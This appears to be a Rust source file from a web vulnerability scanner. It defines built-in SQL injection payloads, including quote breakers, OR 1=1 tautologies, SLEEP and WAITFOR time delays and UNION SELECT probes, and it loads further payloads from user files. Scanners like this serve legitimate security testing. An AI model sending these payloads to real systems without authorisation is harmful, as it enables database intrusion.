//! Payload store: built-in SQL injection payloads plus user payload files
//!
//! A payload file is plain text. `#` or `[section]` lines switch the current
//! category (error, boolean, time, union, generic); every other non-empty line
//! is a payload appended to the current category. Lines starting with `#` that
//! do not name a category are comments.

use crate::error::{Result, SpiderError};
use serde::Serialize;
use std::fmt;
use std::path::Path;
use tracing::{debug, info};

/// Payload category, matching the detection technique that consumes it
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize)]
pub enum PayloadCategory {
    Error,
    Boolean,
    Time,
    Union,
    Generic,
}

impl PayloadCategory {
    pub const ALL: [PayloadCategory; 5] = [
        PayloadCategory::Error,
        PayloadCategory::Boolean,
        PayloadCategory::Time,
        PayloadCategory::Union,
        PayloadCategory::Generic,
    ];

    pub fn as_str(&self) -> &'static str {
        match self {
            PayloadCategory::Error => "error",
            PayloadCategory::Boolean => "boolean",
            PayloadCategory::Time => "time",
            PayloadCategory::Union => "union",
            PayloadCategory::Generic => "generic",
        }
    }

    /// Parses a section header such as `[error]`, `# Boolean Based`, `[time_based]`
    pub fn from_header(line: &str) -> Option<Self> {
        let name: String = line
            .trim()
            .trim_start_matches(['#', '['])
            .trim_end_matches([']', '#'])
            .chars()
            .filter(|c| !matches!(c, ' ' | '_' | '-'))
            .collect::<String>()
            .to_ascii_lowercase();
        match name.as_str() {
            "error" | "errorbased" => Some(PayloadCategory::Error),
            "boolean" | "booleanbased" => Some(PayloadCategory::Boolean),
            "time" | "timebased" => Some(PayloadCategory::Time),
            "union" | "unionbased" => Some(PayloadCategory::Union),
            "generic" => Some(PayloadCategory::Generic),
            _ => None,
        }
    }
}

impl fmt::Display for PayloadCategory {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

const ERROR_PAYLOADS: &[&str] = &[
    "'", "\"", "`", "'-'", "' '", "'='", "' OR 1=1", "\" OR 1=1", "` OR 1=1", "' OR '1'='1",
    "\" OR \"1\"=\"1", "' AND 1=1", "' AND 1=0", "'))", "'))--", "UNION SELECT @@VERSION", "1/0",
];

/// Consecutive entries form (true, false) pairs
const BOOLEAN_PAYLOADS: &[&str] = &[
    "' AND 1=1",
    "' AND 1=2",
    "\" AND 1=1",
    "\" AND 1=2",
    "` AND 1=1",
    "` AND 1=2",
    " AND 1=1",
    " AND 1=2",
    "' AND 'a'='a'",
    "' AND 'a'='b'",
    "' OR 1=1",
    "' OR 1=2",
    "' OR 'a'='a'",
    "' OR 'a'='b'",
    "' AND 1=1 FROM DUAL",
    "' AND 1=2 FROM DUAL",
    "' AND @@SERVERNAME=@@SERVERNAME",
    "' AND @@SERVERNAME='x'",
];

const TIME_PAYLOADS: &[&str] = &[
    "AND SLEEP(5)",
    "OR SLEEP(5)",
    "AND BENCHMARK(5000000,MD5('1'))",
    ";SELECT PG_SLEEP(5)",
    "OR PG_SLEEP(5)",
    ";WAITFOR DELAY '00:00:05'",
    "OR WAITFOR DELAY '00:00:05'",
    "AND DBMS_LOCK.SLEEP(5)",
    "OR DBMS_LOCK.SLEEP(5)",
    "AND LIKE('ABCDEFG',UPPER('Abcdefg')) AND RANDOMBLOB(100000000)",
];

const UNION_PAYLOADS: &[&str] = &[
    "UNION SELECT NULL",
    "UNION SELECT NULL,NULL",
    "UNION SELECT NULL,NULL,NULL",
];

const GENERIC_PAYLOADS: &[&str] = &["test'\"`()%&<>\u{0}", "1", "0", "-1", "true", "false", "NULL"];

/// Maximum length of a crawl-side probe
const MAX_PROBE_LEN: usize = 50;

/// In-memory payload lists for one run
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PayloadStore {
    error: Vec<String>,
    boolean: Vec<String>,
    time: Vec<String>,
    union: Vec<String>,
    generic: Vec<String>,
}

impl PayloadStore {
    /// Embedded core payloads
    pub fn builtin() -> Self {
        let owned = |list: &[&str]| list.iter().map(|p| p.to_string()).collect::<Vec<_>>();
        Self {
            error: owned(ERROR_PAYLOADS),
            boolean: owned(BOOLEAN_PAYLOADS),
            time: owned(TIME_PAYLOADS),
            union: owned(UNION_PAYLOADS),
            generic: owned(GENERIC_PAYLOADS),
        }
    }

    /// Built-in payloads for `"default"`, otherwise built-ins extended with the given file
    pub fn load(payload_set: &str) -> Result<Self> {
        let mut store = Self::builtin();
        if payload_set.trim().is_empty() || payload_set.eq_ignore_ascii_case("default") {
            return Ok(store);
        }

        let path = Path::new(payload_set);
        let content = std::fs::read_to_string(path).map_err(|source| SpiderError::PayloadFile {
            path: path.display().to_string(),
            source,
        })?;
        let added = store.extend_from_str(&content);
        info!("Loaded {added} payloads from {}", path.display());
        Ok(store)
    }

    /// Appends payloads from payload-file text, returns how many were new
    pub fn extend_from_str(&mut self, content: &str) -> usize {
        let mut current = PayloadCategory::Generic;
        let mut added = 0;

        for line in content.lines() {
            let line = line.trim();
            if line.is_empty() {
                continue;
            }
            if line.starts_with('#') || (line.starts_with('[') && line.ends_with(']')) {
                match PayloadCategory::from_header(line) {
                    Some(category) => current = category,
                    None if line.starts_with('[') => {
                        debug!("Unknown payload section {line}, using generic");
                        current = PayloadCategory::Generic;
                    }
                    None => {}
                }
                continue;
            }

            let list = self.list_mut(current);
            if !list.iter().any(|p| p == line) {
                list.push(line.to_string());
                added += 1;
            }
        }
        added
    }

    pub fn get(&self, category: PayloadCategory) -> &[String] {
        match category {
            PayloadCategory::Error => &self.error,
            PayloadCategory::Boolean => &self.boolean,
            PayloadCategory::Time => &self.time,
            PayloadCategory::Union => &self.union,
            PayloadCategory::Generic => &self.generic,
        }
    }

    fn list_mut(&mut self, category: PayloadCategory) -> &mut Vec<String> {
        match category {
            PayloadCategory::Error => &mut self.error,
            PayloadCategory::Boolean => &mut self.boolean,
            PayloadCategory::Time => &mut self.time,
            PayloadCategory::Union => &mut self.union,
            PayloadCategory::Generic => &mut self.generic,
        }
    }

    /// (true-condition, false-condition) pairs; a trailing unpaired entry is ignored
    pub fn boolean_pairs(&self) -> Vec<(&str, &str)> {
        self.boolean
            .chunks_exact(2)
            .map(|pair| (pair[0].as_str(), pair[1].as_str()))
            .collect()
    }

    pub fn counts(&self) -> Vec<(PayloadCategory, usize)> {
        PayloadCategory::ALL
            .iter()
            .map(|c| (*c, self.get(*c).len()))
            .collect()
    }

    /// Cheap first-pass probes sent to every parameter before confirmation
    pub fn probe_payloads(&self) -> Vec<String> {
        let mut probes: Vec<String> = Vec::new();
        let or_probe = self
            .boolean
            .iter()
            .find(|p| p.contains("OR 1=1"))
            .cloned()
            .unwrap_or_else(|| "' OR 1=1".to_string());

        let candidates = self
            .error
            .iter()
            .take(2)
            .cloned()
            .chain(["'", "\"", "`"].iter().map(|p| p.to_string()))
            .chain(std::iter::once(or_probe))
            .chain(self.generic.iter().take(1).cloned());

        for candidate in candidates {
            if !candidate.is_empty() && candidate.len() < MAX_PROBE_LEN && !probes.contains(&candidate) {
                probes.push(candidate);
            }
        }
        probes
    }
}

impl Default for PayloadStore {
    fn default() -> Self {
        Self::builtin()
    }
}
